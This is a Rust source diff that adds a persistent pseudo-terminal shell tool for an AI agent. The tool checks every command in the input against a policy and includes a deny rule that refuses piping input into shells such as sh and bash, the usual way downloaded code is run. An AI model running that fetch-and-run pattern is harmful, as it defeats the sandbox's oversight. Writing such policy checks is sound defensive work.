@@ -0,0 +1,1497 @@
+//! Persistent interactive shell sessions for the agent
+//!
+//! Unlike the exec tool, which starts a fresh process per command, this tool
+//! keeps named shells running on a pseudo-terminal so that state such as the
+//! working directory, environment variables or an activated virtualenv survives
+//! between calls, and interactive programs (REPLs, prompts) can be driven.
+//!
+//! Sessions belong to the conversation (channel and chat) that opened them. Each
+//! conversation may hold a limited number of sessions. A background task kills
+//! sessions that have not been used for the idle timeout, and all of a
+//! conversation's sessions are killed when its agent session expires, so shells
+//! do not outlive the conversation that needed them.
+//!
+//! Shells run inside the shared execution sandbox. Input is split into the simple
+//! commands it runs, on `;`, `&&`, `||`, `|`, `&`, newlines, subshells, `$(…)` and
+//! backticks, and every one of them, as well as text passed to `eval`, is checked
+//! against the command policy. Piping into a shell is refused. Commands a shell
+//! builds at run time, for example from variables or sourced files, cannot be
+//! seen; in allowlist mode such a command word matches no allowed name and is
+//! refused.
+
+use std::collections::HashMap;
+use std::fs::File;
+use std::io::{Read, Write};
+use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+use std::path::PathBuf;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use regex::Regex;
+use serde_json::Value;
+use tokio::process::{Child, Command};
+use tokio::sync::watch;
+
+use crate::agent::tools::policy::{CommandPolicy, PolicyScope};
+use crate::agent::tools::sandbox::{Sandbox, SandboxGuard};
+use crate::agent::tools::security;
+use crate::agent::tools::types::{Tool, ToolError, ToolExecutionContext, ToolResult};
+use crate::agent::tools::{
+    DEFAULT_MAX_SHELL_SESSIONS, DEFAULT_SHELL_IDLE_TIMEOUT_SECS, DEFAULT_TOOL_TIMEOUT_SECS,
+};
+
+/// Supported operations
+const OPERATIONS: &[&str] = &["open", "send", "read", "close", "list"];
+
+/// Output kept per session before the oldest unread bytes are dropped
+const MAX_BUFFERED_BYTES: usize = 1024 * 1024;
+
+/// Maximum number of characters returned by a single read (the tail is kept)
+const MAX_OUTPUT_CHARS: usize = 16_000;
+
+/// Default time to wait for output to settle, in milliseconds
+const DEFAULT_IDLE_MS: u64 = 500;
+
+/// Default time to wait for output, in seconds
+const DEFAULT_WAIT_SECS: u64 = 10;
+
+/// Time left between the longest wait and the registry's tool timeout, so a
+/// read returns its output before the call is cancelled
+const WAIT_MARGIN: Duration = Duration::from_secs(5);
+
+/// Bounds for how often idle sessions are looked for
+const MIN_REAP_INTERVAL: Duration = Duration::from_millis(10);
+const MAX_REAP_INTERVAL: Duration = Duration::from_secs(60);
+
+/// Terminal size reported to programs
+const TERMINAL_ROWS: u16 = 40;
+const TERMINAL_COLS: u16 = 120;
+
+/// Named control keys accepted by the `key` parameter
+const KEYS: &[(&str, &str)] = &[
+    ("enter", "\n"),
+    ("tab", "\t"),
+    ("escape", "\x1b"),
+    ("backspace", "\x7f"),
+    ("up", "\x1b[A"),
+    ("down", "\x1b[B"),
+    ("right", "\x1b[C"),
+    ("left", "\x1b[D"),
+    ("ctrl-c", "\x03"),
+    ("ctrl-d", "\x04"),
+    ("ctrl-z", "\x1a"),
+    ("ctrl-l", "\x0c"),
+];
+
+/// Keywords that may precede the command of a segment
+const SHELL_KEYWORDS: &[&str] = &[
+    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "esac", "time", "!", "{",
+    "}",
+];
+
+/// Keywords that start a segment which runs no command (loop and case headers)
+const HEADER_KEYWORDS: &[&str] = &["for", "select", "case", "function"];
+
+/// Shells that run whatever is piped into them
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+/// Output captured from a session's terminal
+#[derive(Debug, Default)]
+struct OutputBuffer {
+    data: Vec<u8>,
+    /// Bytes dropped from the front because the buffer was full
+    dropped: usize,
+    /// Absolute offset of the next unread byte
+    read_offset: usize,
+    /// Whether the terminal was closed (every process on it exited)
+    closed: bool,
+}
+
+impl OutputBuffer {
+    fn push(&mut self, bytes: &[u8]) {
+        self.data.extend_from_slice(bytes);
+        if self.data.len() > MAX_BUFFERED_BYTES {
+            let excess = self.data.len() - MAX_BUFFERED_BYTES;
+            self.data.drain(..excess);
+            self.dropped += excess;
+        }
+    }
+
+    /// Total number of bytes received so far
+    fn total(&self) -> usize {
+        self.dropped + self.data.len()
+    }
+
+    /// Returns the unread output and whether some of it was lost
+    fn unread(&self) -> (&[u8], bool) {
+        let start = self.read_offset.max(self.dropped) - self.dropped;
+        (&self.data[start..], self.read_offset < self.dropped)
+    }
+
+    fn mark_read(&mut self) {
+        self.read_offset = self.total();
+    }
+}
+
+/// A shell running on a pseudo-terminal
+#[derive(Debug)]
+struct ShellSession {
+    name: String,
+    cwd: PathBuf,
+    started: Instant,
+    last_used: Mutex<Instant>,
+    child: tokio::sync::Mutex<Child>,
+    /// Process group of the shell (it is a session leader)
+    pgid: Option<i32>,
+    writer: Mutex<File>,
+    output: Arc<Mutex<OutputBuffer>>,
+    /// Total bytes received, bumped by the reader thread
+    progress: watch::Receiver<usize>,
+    _sandbox_guard: SandboxGuard,
+}
+
+impl ShellSession {
+    fn touch(&self) {
+        *lock(&self.last_used) = Instant::now();
+    }
+
+    fn idle_for(&self) -> Duration {
+        lock(&self.last_used).elapsed()
+    }
+
+    fn write(&self, bytes: &[u8]) -> std::io::Result<()> {
+        let mut writer = lock(&self.writer);
+        writer.write_all(bytes)?;
+        writer.flush()
+    }
+}
+
+impl Drop for ShellSession {
+    fn drop(&mut self) {
+        // Kill the whole process group so jobs started from the shell go too
+        if let Some(pgid) = self.pgid {
+            // SAFETY: kill has no memory-safety requirements
+            unsafe {
+                libc::kill(-pgid, libc::SIGKILL);
+            }
+        }
+    }
+}
+
+/// Open sessions keyed by (agent session id, name)
+type SessionMap = HashMap<(String, String), Arc<ShellSession>>;
+
+/// How long to wait for output after sending input
+#[derive(Debug)]
+struct WaitOptions {
+    pattern: Option<Regex>,
+    idle: Duration,
+    timeout: Duration,
+}
+
+/// Tool for persistent, PTY-backed shell sessions
+#[derive(Debug)]
+pub struct ShellTool {
+    /// The canonicalized base directory that sessions start in
+    base_dir: PathBuf,
+    /// Policy checked against every command in the input
+    policy: Arc<CommandPolicy>,
+    /// Confinement applied to the shells
+    sandbox: Arc<Sandbox>,
+    /// Maximum number of open sessions per conversation
+    max_sessions: usize,
+    /// Time after which an unused session is closed
+    idle_timeout: Duration,
+    /// Longest time a single call waits for output
+    max_wait: Duration,
+    /// Open sessions of every conversation
+    sessions: Arc<Mutex<SessionMap>>,
+}
+
+impl ShellTool {
+    /// Creates a new ShellTool whose sessions start in `base_dir`
+    ///
+    /// # Returns
+    /// * `Ok(Self)` - Successfully created ShellTool
+    /// * `Err(ToolError)` - If base directory cannot be canonicalized
+    pub fn new(base_dir: PathBuf) -> Result<Self, ToolError> {
+        let canonical_base =
+            std::fs::canonicalize(&base_dir).map_err(|e| ToolError::ExecutionFailed {
+                tool: "shell".to_string(),
+                message: format!(
+                    "Failed to canonicalize base directory {:?}: {}",
+                    base_dir, e
+                ),
+            })?;
+
+        Ok(Self {
+            base_dir: canonical_base,
+            policy: Arc::new(CommandPolicy::default()),
+            sandbox: Arc::new(Sandbox::default()),
+            max_sessions: DEFAULT_MAX_SHELL_SESSIONS,
+            idle_timeout: Duration::from_secs(DEFAULT_SHELL_IDLE_TIMEOUT_SECS),
+            max_wait: max_wait(Duration::from_secs(DEFAULT_TOOL_TIMEOUT_SECS)),
+            sessions: Arc::new(Mutex::new(HashMap::new())),
+        })
+    }
+
+    /// Replaces the default command policy
+    pub fn with_policy(mut self, policy: Arc<CommandPolicy>) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Replaces the default sandbox
+    pub fn with_sandbox(mut self, sandbox: Arc<Sandbox>) -> Self {
+        self.sandbox = sandbox;
+        self
+    }
+
+    /// Overrides the per-conversation session limit and the idle timeout
+    pub fn with_limits(mut self, max_sessions: usize, idle_timeout: Duration) -> Self {
+        self.max_sessions = max_sessions;
+        self.idle_timeout = idle_timeout;
+        self
+    }
+
+    /// Keeps waits for output below `tool_timeout`, the registry's limit for a call
+    pub fn with_tool_timeout(mut self, tool_timeout: Duration) -> Self {
+        self.max_wait = max_wait(tool_timeout);
+        self
+    }
+
+    /// Returns the number of open sessions across all conversations
+    pub fn session_count(&self) -> usize {
+        lock(&self.sessions).len()
+    }
+
+    /// Starts the background task that closes sessions idle for longer than
+    /// the idle timeout
+    ///
+    /// The task ends once the tool is dropped.
+    pub fn start_reaper(&self) -> tokio::task::JoinHandle<()> {
+        let sessions = Arc::downgrade(&self.sessions);
+        let idle_timeout = self.idle_timeout;
+        let period = (idle_timeout / 4).clamp(MIN_REAP_INTERVAL, MAX_REAP_INTERVAL);
+        tokio::spawn(async move {
+            let mut interval = tokio::time::interval(period);
+            interval.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
+            loop {
+                interval.tick().await;
+                let Some(sessions) = sessions.upgrade() else {
+                    break;
+                };
+                reap_idle(&sessions, idle_timeout);
+            }
+        })
+    }
+
+    fn invalid(&self, message: impl Into<String>) -> ToolError {
+        ToolError::InvalidArguments {
+            tool: self.name().to_string(),
+            message: message.into(),
+        }
+    }
+
+    fn exec_error(&self, message: String) -> ToolError {
+        ToolError::ExecutionFailed {
+            tool: self.name().to_string(),
+            message,
+        }
+    }
+
+    /// Checks every command in `input` against the policy
+    fn check_input(&self, input: &str, scope: &PolicyScope) -> ToolResult<()> {
+        for segment in command_segments(input) {
+            let Some((command, args)) = segment.words.split_first() else {
+                continue;
+            };
+            if segment.piped
+                && SHELLS.contains(&command_basename(command))
+                && args.iter().all(|arg| arg.starts_with('-'))
+            {
+                tracing::warn!(tool = self.name(), command = %command, "Pipe into a shell blocked");
+                return Err(ToolError::PermissionDenied {
+                    tool: self.name().to_string(),
+                    message: format!(
+                        "Command not allowed: {} (piping commands into a shell is not allowed)",
+                        command
+                    ),
+                });
+            }
+            security::check_command(self.name(), &self.policy, command, args, scope)?;
+            if command_basename(command) == "eval" {
+                self.check_input(&args.join(" "), scope)?;
+            }
+        }
+        Ok(())
+    }
+
+    fn get(&self, owner: &str, name: &str) -> ToolResult<Arc<ShellSession>> {
+        lock(&self.sessions)
+            .get(&(owner.to_string(), name.to_string()))
+            .cloned()
+            .ok_or_else(|| {
+                ToolError::NotFound(format!(
+                    "No shell session named '{}'. Open it first with the 'open' operation.",
+                    name
+                ))
+            })
+    }
+
+    /// Opens a new session running `shell`
+    async fn open(
+        &self,
+        owner: &str,
+        name: &str,
+        shell: Option<&str>,
+        cwd: Option<&str>,
+        scope: &PolicyScope,
+    ) -> ToolResult<String> {
+        {
+            let sessions = lock(&self.sessions);
+            if sessions.contains_key(&(owner.to_string(), name.to_string())) {
+                return Err(self.invalid(format!("Shell session '{}' is already open", name)));
+            }
+            let open = sessions.keys().filter(|(o, _)| o == owner).count();
+            if open >= self.max_sessions {
+                return Err(self.exec_error(format!(
+                    "Too many shell sessions ({} open, limit {}). Close one first.",
+                    open, self.max_sessions
+                )));
+            }
+        }
+
+        let shell = shell.map(str::to_string).unwrap_or_else(default_shell);
+        security::check_command(self.name(), &self.policy, &shell, &[], scope)?;
+
+        let cwd = match cwd {
+            Some(dir) => security::validate_cwd(self.name(), &self.base_dir, dir).await?,
+            None => self.base_dir.clone(),
+        };
+
+        let session = self
+            .spawn_session(name, &shell, cwd)
+            .map_err(|e| self.exec_error(format!("Failed to open shell '{}': {}", shell, e)))?;
+        let session = Arc::new(session);
+
+        // Collect the banner and first prompt
+        let wait = WaitOptions {
+            pattern: None,
+            idle: Duration::from_millis(DEFAULT_IDLE_MS),
+            timeout: Duration::from_secs(2),
+        };
+        let mut result = read_output(&session, &wait).await;
+        result["shell"] = Value::String(shell);
+
+        lock(&self.sessions).insert((owner.to_string(), name.to_string()), session);
+        tracing::info!(owner = %owner, session = %name, "Opened shell session");
+        self.to_json(&result)
+    }
+
+    /// Starts `shell` on a new pseudo-terminal
+    fn spawn_session(
+        &self,
+        name: &str,
+        shell: &str,
+        cwd: PathBuf,
+    ) -> std::io::Result<ShellSession> {
+        let (master, slave) = open_pty()?;
+
+        let mut cmd = Command::new(shell);
+        if matches!(command_basename(shell), "bash") {
+            cmd.args(["--noprofile", "--norc", "-i"]);
+        } else {
+            cmd.arg("-i");
+        }
+        cmd.current_dir(&cwd);
+        cmd.stdin(slave.try_clone()?);
+        cmd.stdout(slave.try_clone()?);
+        cmd.stderr(slave);
+        cmd.kill_on_drop(true);
+
+        // Make the terminal the controlling terminal of a new session. This is
+        // registered before the sandbox so it runs before any seccomp filter.
+        // SAFETY: setsid and ioctl are async-signal-safe system calls
+        unsafe {
+            cmd.pre_exec(|| {
+                if libc::setsid() < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                // The request type differs between libc implementations
+                #[allow(clippy::useless_conversion)]
+                let request = libc::TIOCSCTTY.into();
+                if libc::ioctl(0, request, 0) < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                Ok(())
+            });
+        }
+
+        let guard = self.sandbox.prepare(&mut cmd)?;
+        cmd.env("TERM", "dumb");
+        cmd.env("PS1", "$ ");
+        cmd.env("PAGER", "cat");
+
+        let child = cmd.spawn()?;
+        let pgid = child.id().and_then(|pid| i32::try_from(pid).ok());
+
+        let writer = File::from(master.try_clone()?);
+        let output = Arc::new(Mutex::new(OutputBuffer::default()));
+        let (progress_tx, progress) = watch::channel(0);
+        spawn_reader(File::from(master), Arc::clone(&output), progress_tx)?;
+
+        Ok(ShellSession {
+            name: name.to_string(),
+            cwd,
+            started: Instant::now(),
+            last_used: Mutex::new(Instant::now()),
+            child: tokio::sync::Mutex::new(child),
+            pgid,
+            writer: Mutex::new(writer),
+            output,
+            progress,
+            _sandbox_guard: guard,
+        })
+    }
+
+    /// Sends input (and optionally a key) to a session, then reads its output
+    async fn send(
+        &self,
+        session: &ShellSession,
+        input: Option<&str>,
+        key: Option<&str>,
+        enter: bool,
+        wait: &WaitOptions,
+        scope: &PolicyScope,
+    ) -> ToolResult<String> {
+        let mut bytes = String::new();
+        if let Some(input) = input {
+            self.check_input(input, scope)?;
+            bytes.push_str(input);
+            if enter && !input.ends_with('\n') {
+                bytes.push('\n');
+            }
+        }
+        if let Some(key) = key {
+            let sequence = KEYS
+                .iter()
+                .find(|(name, _)| name.eq_ignore_ascii_case(key))
+                .map(|(_, sequence)| *sequence)
+                .ok_or_else(|| {
+                    self.invalid(format!(
+                        "Unknown key '{}'. Must be one of: {}.",
+                        key,
+                        KEYS.iter()
+                            .map(|(name, _)| *name)
+                            .collect::<Vec<_>>()
+                            .join(", ")
+                    ))
+                })?;
+            bytes.push_str(sequence);
+        }
+        if bytes.is_empty() {
+            return Err(self.invalid("The send operation requires 'input' or 'key'"));
+        }
+
+        session.touch();
+        // Output printed before this input belongs to the previous read
+        session
+            .write(bytes.as_bytes())
+            .map_err(|e| self.exec_error(format!("Failed to write to shell: {}", e)))?;
+
+        let result = self.finish_read(session, wait).await;
+        self.to_json(&result)
+    }
+
+    async fn finish_read(&self, session: &ShellSession, wait: &WaitOptions) -> Value {
+        let mut result = read_output(session, wait).await;
+        let mut child = session.child.lock().await;
+        if let Ok(Some(status)) = child.try_wait() {
+            result["exited"] = Value::Bool(true);
+            result["exit_code"] = status.code().map(Value::from).unwrap_or(Value::Null);
+        }
+        result
+    }
+
+    /// Closes a session and returns its remaining output
+    async fn close(&self, owner: &str, name: &str) -> ToolResult<String> {
+        let session = lock(&self.sessions)
+            .remove(&(owner.to_string(), name.to_string()))
+            .ok_or_else(|| ToolError::NotFound(format!("No shell session named '{}'", name)))?;
+
+        let (remaining, _) = take_unread(&session);
+        {
+            let mut child = session.child.lock().await;
+            let _ = child.start_kill();
+        }
+        drop(session);
+
+        tracing::info!(owner = %owner, session = %name, "Closed shell session");
+        self.to_json(&serde_json::json!({
+            "session": name,
+            "closed": true,
+            "output": remaining,
+        }))
+    }
+
+    fn list(&self, owner: &str) -> ToolResult<String> {
+        let sessions = lock(&self.sessions);
+        let mut entries: Vec<Value> = sessions
+            .iter()
+            .filter(|((o, _), _)| o == owner)
+            .map(|(_, session)| {
+                serde_json::json!({
+                    "session": session.name,
+                    "cwd": session.cwd.display().to_string(),
+                    "age_secs": session.started.elapsed().as_secs(),
+                    "idle_secs": session.idle_for().as_secs(),
+                    "closed": lock(&session.output).closed,
+                })
+            })
+            .collect();
+        entries.sort_by(|a, b| a["session"].as_str().cmp(&b["session"].as_str()));
+        self.to_json(&serde_json::json!({
+            "sessions": entries,
+            "limit": self.max_sessions,
+        }))
+    }
+
+    fn wait_options(&self, args: &HashMap<String, Value>) -> ToolResult<WaitOptions> {
+        let pattern = match args.get("wait_for").and_then(|v| v.as_str()) {
+            Some(pattern) => Some(
+                Regex::new(pattern)
+                    .map_err(|e| self.invalid(format!("Invalid 'wait_for' pattern: {}", e)))?,
+            ),
+            None => None,
+        };
+        let idle_ms = args
+            .get("idle_ms")
+            .and_then(|v| v.as_u64())
+            .unwrap_or(DEFAULT_IDLE_MS);
+        let timeout_secs = args
+            .get("timeout")
+            .and_then(|v| v.as_u64())
+            .unwrap_or(DEFAULT_WAIT_SECS);
+        Ok(WaitOptions {
+            pattern,
+            idle: Duration::from_millis(idle_ms),
+            timeout: Duration::from_secs(timeout_secs).min(self.max_wait),
+        })
+    }
+
+    fn to_json(&self, value: &Value) -> ToolResult<String> {
+        serde_json::to_string(value)
+            .map_err(|e| self.exec_error(format!("Failed to serialize result: {}", e)))
+    }
+}
+
+#[async_trait::async_trait]
+impl Tool for ShellTool {
+    fn name(&self) -> &str {
+        "shell"
+    }
+
+    fn description(&self) -> &str {
+        "Persistent interactive shell sessions on a terminal. Unlike exec, state such as the current directory, \
+         environment variables or an activated virtualenv is kept between calls, and interactive programs can be driven. \
+         Operations: 'open' a named session, 'send' input (or a control key such as ctrl-c) and get the output, \
+         'read' new output without sending anything, 'close' a session, 'list' open sessions. \
+         Each read returns the output since the previous read, waiting until 'wait_for' (a regex) appears, \
+         or until the output has been idle for 'idle_ms', at most 'timeout' seconds. \
+         Every command in the input, including those chained with ';', '&&', '|' or substituted with $(...), \
+         is checked against the command policy, and sessions run sandboxed. \
+         Unused sessions are closed automatically."
+    }
+
+    fn parameters(&self) -> Value {
+        serde_json::json!({
+            "type": "object",
+            "properties": {
+                "operation": {
+                    "type": "string",
+                    "enum": OPERATIONS,
+                    "description": "Operation to perform"
+                },
+                "session": {
+                    "type": "string",
+                    "description": "Session name (required except for list)"
+                },
+                "input": {
+                    "type": "string",
+                    "description": "Text to type into the session (send)"
+                },
+                "key": {
+                    "type": "string",
+                    "enum": KEYS.iter().map(|(name, _)| *name).collect::<Vec<_>>(),
+                    "description": "Control key to press after the input (send)"
+                },
+                "enter": {
+                    "type": "boolean",
+                    "description": "Press enter after the input (default: true)"
+                },
+                "wait_for": {
+                    "type": "string",
+                    "description": "Regex to wait for in the new output (send, read)"
+                },
+                "idle_ms": {
+                    "type": "integer",
+                    "description": "Return once no output arrived for this many milliseconds (default: 500)"
+                },
+                "timeout": {
+                    "type": "integer",
+                    "description": format!(
+                        "Maximum time to wait for output in seconds (default: {}, max: {})",
+                        DEFAULT_WAIT_SECS.min(self.max_wait.as_secs()),
+                        self.max_wait.as_secs()
+                    )
+                },
+                "shell": {
+                    "type": "string",
+                    "description": "Shell to start (open, default: bash or sh)"
+                },
+                "cwd": {
+                    "type": "string",
+                    "description": "Starting directory inside the workspace (open)"
+                }
+            },
+            "required": ["operation"]
+        })
+    }
+
+    async fn execute(
+        &self,
+        args: HashMap<String, Value>,
+        ctx: &ToolExecutionContext,
+    ) -> ToolResult<String> {
+        let operation = args
+            .get("operation")
+            .and_then(|v| v.as_str())
+            .ok_or_else(|| {
+                self.invalid(format!(
+                    "Missing required parameter 'operation'. Must be one of: {}.",
+                    OPERATIONS.join(", ")
+                ))
+            })?;
+
+        let owner = ctx.session_id();
+        let scope = PolicyScope::from(ctx);
+
+        if operation == "list" {
+            return self.list(&owner);
+        }
+
+        let name = args
+            .get("session")
+            .and_then(|v| v.as_str())
+            .filter(|name| !name.trim().is_empty())
+            .ok_or_else(|| {
+                self.invalid(format!(
+                    "Missing required parameter 'session' for {} operation",
+                    operation
+                ))
+            })?;
+
+        match operation {
+            "open" => {
+                let shell = args.get("shell").and_then(|v| v.as_str());
+                let cwd = args.get("cwd").and_then(|v| v.as_str());
+                self.open(&owner, name, shell, cwd, &scope).await
+            }
+            "send" => {
+                let session = self.get(&owner, name)?;
+                let wait = self.wait_options(&args)?;
+                let input = args.get("input").and_then(|v| v.as_str());
+                let key = args.get("key").and_then(|v| v.as_str());
+                let enter = args.get("enter").and_then(|v| v.as_bool()).unwrap_or(true);
+                self.send(&session, input, key, enter, &wait, &scope).await
+            }
+            "read" => {
+                let session = self.get(&owner, name)?;
+                let wait = self.wait_options(&args)?;
+                session.touch();
+                let result = self.finish_read(&session, &wait).await;
+                self.to_json(&result)
+            }
+            "close" => self.close(&owner, name).await,
+            other => Err(self.invalid(format!(
+                "Unknown operation '{}'. Must be one of: {}.",
+                other,
+                OPERATIONS.join(", ")
+            ))),
+        }
+    }
+
+    async fn session_expired(&self, session_id: &str) {
+        lock(&self.sessions).retain(|(owner, name), _| {
+            let keep = owner != session_id;
+            if !keep {
+                tracing::info!(owner = %owner, session = %name, "Closing shell session of expired conversation");
+            }
+            keep
+        });
+    }
+}
+
+/// Closes sessions that have been idle for longer than `idle_timeout`
+fn reap_idle(sessions: &Mutex<SessionMap>, idle_timeout: Duration) {
+    lock(sessions).retain(|(owner, name), session| {
+        let keep = session.idle_for() < idle_timeout;
+        if !keep {
+            tracing::info!(owner = %owner, session = %name, "Closing idle shell session");
+        }
+        keep
+    });
+}
+
+/// Longest wait for output that still returns before `tool_timeout`
+fn max_wait(tool_timeout: Duration) -> Duration {
+    tool_timeout
+        .saturating_sub(WAIT_MARGIN)
+        .max(Duration::from_secs(1))
+}
+
+/// Waits for output according to `wait`, then returns everything unread
+async fn read_output(session: &ShellSession, wait: &WaitOptions) -> Value {
+    let mut progress = session.progress.clone();
+    let deadline = tokio::time::Instant::now() + wait.timeout;
+    let mut matched = false;
+
+    loop {
+        let (closed, found) = {
+            let output = lock(&session.output);
+            let found = wait.pattern.as_ref().is_some_and(|pattern| {
+                pattern.is_match(&clean_output(&String::from_utf8_lossy(output.unread().0)))
+            });
+            (output.closed, found)
+        };
+        if found {
+            matched = true;
+            break;
+        }
+        if closed {
+            break;
+        }
+
+        let now = tokio::time::Instant::now();
+        if now >= deadline {
+            break;
+        }
+        // Without a pattern, stop once the output has been quiet for `idle`
+        let limit = match wait.pattern {
+            Some(_) => deadline - now,
+            None => wait.idle.min(deadline - now),
+        };
+        match tokio::time::timeout(limit, progress.changed()).await {
+            Ok(Ok(())) => continue,
+            // Reader thread gone: the terminal is closed
+            Ok(Err(_)) => break,
+            Err(_) if wait.pattern.is_none() => break,
+            Err(_) => continue,
+        }
+    }
+
+    let (output, truncated) = take_unread(session);
+    let mut result = serde_json::json!({
+        "session": session.name,
+        "output": output,
+    });
+    if wait.pattern.is_some() {
+        result["matched"] = Value::Bool(matched);
+    }
+    if truncated {
+        result["truncated"] = Value::Bool(true);
+    }
+    if lock(&session.output).closed {
+        result["exited"] = Value::Bool(true);
+    }
+    result
+}
+
+/// Returns the unread output as cleaned text and marks it read
+fn take_unread(session: &ShellSession) -> (String, bool) {
+    let mut output = lock(&session.output);
+    let (bytes, lost) = output.unread();
+    let text = clean_output(&String::from_utf8_lossy(bytes));
+    output.mark_read();
+    drop(output);
+
+    let char_count = text.chars().count();
+    if char_count > MAX_OUTPUT_CHARS {
+        let tail: String = text.chars().skip(char_count - MAX_OUTPUT_CHARS).collect();
+        (tail, true)
+    } else {
+        (text, lost)
+    }
+}
+
+/// Removes terminal escape sequences and carriage returns
+fn clean_output(text: &str) -> String {
+    static ESCAPES: std::sync::LazyLock<Regex> = std::sync::LazyLock::new(|| {
+        Regex::new(r"\x1b\[[0-9;?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(\x07|\x1b\\)|\x1b[()][0-9A-Za-z]|\x1b[=>]")
+            .expect("escape pattern is valid")
+    });
+    ESCAPES.replace_all(text, "").replace('\r', "")
+}
+
+/// Picks bash when available, sh otherwise
+fn default_shell() -> String {
+    ["/bin/bash", "/usr/bin/bash"]
+        .iter()
+        .find(|path| std::path::Path::new(path).exists())
+        .map(|path| path.to_string())
+        .unwrap_or_else(|| "sh".to_string())
+}
+
+fn command_basename(command: &str) -> &str {
+    command.rsplit('/').next().unwrap_or(command)
+}
+
+/// A simple command found in shell input
+#[derive(Debug, Default, PartialEq)]
+struct CommandSegment {
+    /// The command and its arguments, with quotes removed and expansions kept
+    /// as written
+    words: Vec<String>,
+    /// Whether the command reads the output of a pipe
+    piped: bool,
+}
+
+/// Splits shell input into the simple commands it runs
+///
+/// Input is split on `;`, `&`, `|`, newlines and parentheses outside quotes,
+/// and the contents of `$(…)` and backticks are split the same way. Leading
+/// keywords (`if`, `do`, ...) and variable assignments are dropped, and loop
+/// and `case` headers, which run nothing, are skipped.
+fn command_segments(input: &str) -> Vec<CommandSegment> {
+    let mut parser = SegmentParser::default();
+    parser.parse(&input.chars().collect::<Vec<_>>());
+    parser.segments
+}
+
+#[derive(Default)]
+struct SegmentParser {
+    segments: Vec<CommandSegment>,
+    words: Vec<String>,
+    /// The word being read; `Some("")` after empty quotes
+    word: Option<String>,
+    piped: bool,
+}
+
+impl SegmentParser {
+    fn parse(&mut self, chars: &[char]) {
+        let mut i = 0;
+        while i < chars.len() {
+            let c = chars[i];
+            match c {
+                '\\' => {
+                    // An escaped newline continues the line
+                    if let Some(&next) = chars.get(i + 1).filter(|&&next| next != '\n') {
+                        self.push(next);
+                    }
+                    i += 2;
+                    continue;
+                }
+                '\'' => {
+                    let end = find_char(chars, i + 1, '\'');
+                    self.push_str(&chars[i + 1..end].iter().collect::<String>());
+                    i = end + 1;
+                    continue;
+                }
+                '"' => {
+                    i = self.double_quoted(chars, i + 1);
+                    continue;
+                }
+                '`' => {
+                    i = self.backticks(chars, i + 1);
+                    continue;
+                }
+                '$' => {
+                    i = self.dollar(chars, i);
+                    continue;
+                }
+                '#' if self.word.is_none() => {
+                    i = find_char(chars, i, '\n');
+                    continue;
+                }
+                ' ' | '\t' | '\r' => self.end_word(),
+                // Redirections such as 2>&1 and &>file
+                '&' if chars.get(i + 1) == Some(&'>')
+                    || self.word.as_ref().is_some_and(|w| w.ends_with(['>', '<'])) =>
+                {
+                    self.push('&')
+                }
+                '|' => {
+                    // `||` separates commands, `|` and `|&` pipe into the next one
+                    let piped = chars.get(i + 1) != Some(&'|');
+                    self.end_segment(piped);
+                    if matches!(chars.get(i + 1), Some('|' | '&')) {
+                        i += 1;
+                    }
+                }
+                ';' | '&' | '\n' | '(' | ')' => self.end_segment(false),
+                _ => self.push(c),
+            }
+            i += 1;
+        }
+        self.end_segment(false);
+    }
+
+    /// Reads a double-quoted string starting after the opening quote and
+    /// returns the index after the closing one
+    fn double_quoted(&mut self, chars: &[char], mut i: usize) -> usize {
+        self.push_str("");
+        while i < chars.len() {
+            match chars[i] {
+                '"' => return i + 1,
+                '\\' => {
+                    match chars.get(i + 1) {
+                        Some(&next @ ('$' | '`' | '"' | '\\')) => self.push(next),
+                        Some('\n') => {}
+                        Some(&next) => {
+                            self.push('\\');
+                            self.push(next);
+                        }
+                        None => {}
+                    }
+                    i += 2;
+                }
+                '`' => i = self.backticks(chars, i + 1),
+                '$' => i = self.dollar(chars, i),
+                c => {
+                    self.push(c);
+                    i += 1;
+                }
+            }
+        }
+        i
+    }
+
+    /// Reads a backtick substitution starting after the opening backtick and
+    /// returns the index after the closing one
+    fn backticks(&mut self, chars: &[char], start: usize) -> usize {
+        let mut inner = String::new();
+        let mut i = start;
+        while i < chars.len() && chars[i] != '`' {
+            if chars[i] == '\\' && matches!(chars.get(i + 1), Some('`' | '\\' | '$')) {
+                i += 1;
+            }
+            inner.push(chars[i]);
+            i += 1;
+        }
+        self.substitution(&inner);
+        self.push_str(&format!("`{}`", inner));
+        i + 1
+    }
+
+    /// Reads an expansion starting at `$` and returns the index after it
+    fn dollar(&mut self, chars: &[char], start: usize) -> usize {
+        match (chars.get(start + 1), chars.get(start + 2)) {
+            // Arithmetic expansion runs no command
+            (Some('('), Some('(')) => {
+                let end = (closing_paren(chars, start + 2) + 1).min(chars.len());
+                self.push_str(&chars[start..end].iter().collect::<String>());
+                end
+            }
+            (Some('('), _) => {
+                let end = closing_paren(chars, start + 2);
+                let inner: String = chars[start + 2..end].iter().collect();
+                self.substitution(&inner);
+                self.push_str(&format!("$({})", inner));
+                end + 1
+            }
+            (Some('{'), _) => {
+                let end = (find_char(chars, start + 2, '}') + 1).min(chars.len());
+                self.push_str(&chars[start..end].iter().collect::<String>());
+                end
+            }
+            _ => {
+                self.push('$');
+                start + 1
+            }
+        }
+    }
+
+    /// Adds the commands run by a command substitution
+    fn substitution(&mut self, inner: &str) {
+        self.segments.extend(command_segments(inner));
+    }
+
+    fn push(&mut self, c: char) {
+        self.word.get_or_insert_with(String::new).push(c);
+    }
+
+    fn push_str(&mut self, text: &str) {
+        self.word.get_or_insert_with(String::new).push_str(text);
+    }
+
+    fn end_word(&mut self) {
+        if let Some(word) = self.word.take() {
+            self.words.push(word);
+        }
+    }
+
+    /// Finishes the current command; `piped` tells whether the next one reads
+    /// its output
+    fn end_segment(&mut self, piped: bool) {
+        self.end_word();
+        let words = std::mem::take(&mut self.words);
+        let words = strip_keywords(words);
+        if words.is_empty() {
+            // `a | (b)` still pipes into b
+            self.piped |= piped;
+            return;
+        }
+        self.segments.push(CommandSegment {
+            words,
+            piped: self.piped,
+        });
+        self.piped = piped;
+    }
+}
+
